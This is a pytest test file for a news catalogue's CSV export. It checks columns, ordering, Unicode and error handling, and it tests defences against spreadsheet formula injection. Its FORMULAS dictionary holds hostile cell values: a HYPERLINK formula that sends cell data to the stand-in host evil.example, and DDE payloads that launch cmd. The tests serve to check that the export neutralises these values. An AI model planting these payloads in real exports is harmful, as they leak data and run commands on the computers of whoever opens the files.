"""CSV export: one row per article, names joined, claims counted, any text read back intact."""

import csv
import io

import pytest

from catalog.articles import get_article
from catalog.claims.store import add_claim_by_text
from catalog.editing import ArticleEdit, edit_article
from catalog.exporting.csv_export import CSV_COLUMNS, export_csv
from catalog.importing import import_paths
from catalog.models import Article, Author, Outlet, Topic
from catalog.safe_output import OutputError
from catalog.search import fulltext
from tests.helpers import article_file, run_catalog

AWKWARD = 'Tax, "cuts"\nfor <script>alert(1)</script> all'
WORLD = "Ελλάδα: Путин и Zoë Müller à Genève"


@pytest.fixture
def news(catalogue, write):
    """Three articles in title order: A (two authors, topics, a claim), B (Greek, Russian, accents), C."""
    write(
        "1.txt",
        article_file(
            "A budget",
            "The minister said taxes will fall. Critics disagree.",
            header=" date 2022-03-01 Authored by Ann Lee and Bo Chan via Daily,",
        ),
    )
    write("2.txt", article_file("B world", "Αθήνα και Москва. Café au lait."))
    write("3.txt", article_file("C plain", "Nothing to see."))
    ids = [item.article_id for item in import_paths([write.root]).imported]
    by_title = {Article.get_by_id(i).title: i for i in ids}
    ids = [by_title[title] for title in ("A budget", "B world", "C plain")]
    edit_article(ids[0], ArticleEdit(topics=["Economy", "Politics"], summary="Taxes fall.", notes="Check"))
    add_claim_by_text(ids[0], "taxes will fall")
    add_claim_by_text(ids[0], "Critics disagree")
    edit_article(ids[1], ArticleEdit(title=WORLD, outlet="Καθημερινή", authors=["Zoë Müller"]))
    return ids


def read_rows(path) -> list[list[str]]:
    data = path.read_bytes()
    assert not data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def test_a_header_and_one_row_per_article_in_id_order(news, tmp_path):
    target = tmp_path / "out.csv"
    assert export_csv(target) == 3
    rows = read_rows(target)
    assert tuple(rows[0]) == CSV_COLUMNS
    assert [int(row[0]) for row in rows[1:]] == sorted(news)
    first = dict(zip(CSV_COLUMNS, rows[1 + sorted(news).index(news[0])], strict=True))
    article = get_article(news[0])
    assert first == {
        "id": str(news[0]),
        "title": "A budget",
        "date": "2022-03-01",
        "outlet": "Daily",
        "authors": "Ann Lee; Bo Chan",
        "topics": "Economy; Politics",
        "summary": "Taxes fall.",
        "notes": "Check",
        "claims": "2",
        "source": article["source"],
        "imported_at": article["imported_at"],
        "updated_at": article["updated_at"],
        "version": str(article["version"]),
    }
    plain = dict(zip(CSV_COLUMNS, rows[1 + sorted(news).index(news[2])], strict=True))
    assert (plain["date"], plain["outlet"], plain["authors"], plain["claims"]) == ("", "", "", "0")


def test_lines_end_as_the_csv_module_writes_them(news, tmp_path):
    target = tmp_path / "out.csv"
    export_csv(target)
    assert target.read_bytes().split(b"\r\n")[0] == ",".join(CSV_COLUMNS).encode()


def test_the_order_of_ids_is_kept_and_missing_ids_are_skipped(news, tmp_path):
    target = tmp_path / "some.csv"
    wanted = [news[2], 99_999, news[0]]
    assert export_csv(target, wanted) == 2
    assert [int(row[0]) for row in read_rows(target)[1:]] == [news[2], news[0]]
    assert export_csv(target, []) == 0 and read_rows(target) == [list(CSV_COLUMNS)]


def test_awkward_text_round_trips(news, tmp_path):
    edit_article(news[2], ArticleEdit(notes=AWKWARD, summary="=1+1"))
    target = tmp_path / "out.csv"
    export_csv(target, [news[2]], raw=True)
    [row] = [dict(zip(CSV_COLUMNS, row, strict=True)) for row in read_rows(target)[1:]]
    assert (row["notes"], row["summary"]) == (AWKWARD, "=1+1")


def test_a_title_with_comma_quote_newline_and_markup_round_trips(news, tmp_path):
    # Titles are tidied to one line when edited, so put the raw title in as an import could.
    Article.update(title=AWKWARD).where(Article.id == news[2]).execute()
    target = tmp_path / "out.csv"
    export_csv(target, [news[2]])
    assert read_rows(target)[1][1] == AWKWARD


def test_greek_cyrillic_and_accents_survive_as_utf8(news, tmp_path):
    target = tmp_path / "out.csv"
    export_csv(target, [news[1]])
    text = target.read_bytes().decode("utf-8")
    assert WORLD in text and "Καθημερινή" in text and "Zoë Müller" in text
    row = dict(zip(CSV_COLUMNS, read_rows(target)[1], strict=True))
    assert (row["title"], row["outlet"], row["authors"]) == (WORLD, "Καθημερινή", "Zoë Müller")


def test_a_dash_writes_to_standard_output(news, capsys):
    assert export_csv("-", [news[0]]) == 1
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert tuple(rows[0]) == CSV_COLUMNS and rows[1][1] == "A budget"


def test_an_unwritable_target_raises_and_leaves_no_file(news, tmp_path):
    with pytest.raises(OutputError, match="the folder .*missing does not exist"):
        export_csv(tmp_path / "missing" / "out.csv")
    before = sorted(tmp_path.iterdir())
    folder = tmp_path / "a-folder.csv"
    folder.mkdir()
    with pytest.raises(OutputError, match="it is a folder"):
        export_csv(folder)
    assert sorted(tmp_path.iterdir()) == sorted([*before, folder]) and list(folder.iterdir()) == []


# --- formulas: cells a spreadsheet would run --------------------------------------------------

#: What a hostile file can put at the start of a cell; each runs as a formula in some spreadsheet.
FORMULAS = {
    "equals": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
    "line-feed": "\n=1+1",
    "space-then-equals": "  =1+1",
    "full-width-equals": "＝1+1",
}
TEXT_FIELDS = ("title", "outlet", "authors", "topics", "summary", "notes", "source")


def plant_everywhere(article_id: int, value: str) -> None:
    """``value`` as the article's title, outlet, author, topic, summary, notes and source file,
    stored as an import could store them (no tidying on the way)."""
    edit_article(
        article_id,
        ArticleEdit(
            outlet="Placeholder outlet", authors=["Placeholder author"], topics=["Placeholder topic"]
        ),
    )
    with fulltext.reindexing([article_id]):  # the index follows, as after an edit
        Article.update(title=value, summary=value, notes=value, source_path=value).where(
            Article.id == article_id
        ).execute()
        for model in (Outlet, Author, Topic):
            model.update(name=value).where(model.name.startswith("Placeholder")).execute()


@pytest.mark.parametrize("start", FORMULAS)
def test_text_that_would_run_as_a_formula_is_written_as_text(news, tmp_path, start):
    value = FORMULAS[start]
    plant_everywhere(news[2], value)
    target = tmp_path / "out.csv"
    export_csv(target, [news[2]])
    row = dict(zip(CSV_COLUMNS, read_rows(target)[1], strict=True))
    assert {field: row[field] for field in TEXT_FIELDS} == dict.fromkeys(TEXT_FIELDS, "'" + value)
    article = get_article(news[2])
    # Numbers and dates the export writes itself stay numbers and dates.
    assert (row["id"], row["claims"], row["version"]) == (str(news[2]), "0", str(article["version"]))
    assert row["imported_at"] == article["imported_at"]


@pytest.mark.parametrize("start", FORMULAS)
def test_raw_writes_the_text_as_stored(news, tmp_path, start):
    value = FORMULAS[start]
    plant_everywhere(news[2], value)
    target = tmp_path / "raw.csv"
    export_csv(target, [news[2]], raw=True)
    row = dict(zip(CSV_COLUMNS, read_rows(target)[1], strict=True))
    assert {field: row[field] for field in TEXT_FIELDS} == dict.fromkeys(TEXT_FIELDS, value)


@pytest.mark.parametrize(
    "value",
    [
        "Budget day",
        "",
        "O'Neil: 3 = 3",
        "1986",
        "3-2 win",
        "A - B",
        "e-mail",
        "'quoted'",
        "Tax = theft?",
        "#hashtag",
    ],
)
def test_ordinary_text_is_left_alone(news, tmp_path, value):
    plant_everywhere(news[2], value)
    target = tmp_path / "out.csv"
    export_csv(target, [news[2]])
    row = dict(zip(CSV_COLUMNS, read_rows(target)[1], strict=True))
    assert {field: row[field] for field in TEXT_FIELDS} == dict.fromkeys(TEXT_FIELDS, value)


def test_export_csv_from_the_command_line_neutralises_formulas_unless_raw(news, catalogue):
    plant_everywhere(news[2], FORMULAS["equals"])
    for options, expected in (([], "'" + FORMULAS["equals"]), (["--raw"], FORMULAS["equals"])):
        done = run_catalog("--db", catalogue.location, "export-csv", "-", "--ids", str(news[2]), *options)
        assert done.returncode == 0, done.stderr
        row = dict(zip(CSV_COLUMNS, list(csv.reader(io.StringIO(done.stdout)))[1], strict=True))
        assert {field: row[field] for field in TEXT_FIELDS} == dict.fromkeys(TEXT_FIELDS, expected)
